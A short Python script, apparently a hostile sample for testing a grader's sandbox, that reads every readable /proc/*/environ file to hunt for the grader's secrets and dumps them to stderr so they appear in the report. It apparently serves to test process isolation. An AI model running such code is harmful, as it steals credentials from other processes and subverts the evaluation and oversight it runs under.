"""Hostile: reads every /proc/*/environ it can (looking for the grader's secrets),
prints what it found to stderr (which lands in the report), then exits."""

import os
import socket
import sys
import threading

found = []
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                found.append(f"{pid}: " + f.read().replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            pass
print("\n".join(found) or "no other environment is readable", file=sys.stderr, flush=True)
sys.exit(1)
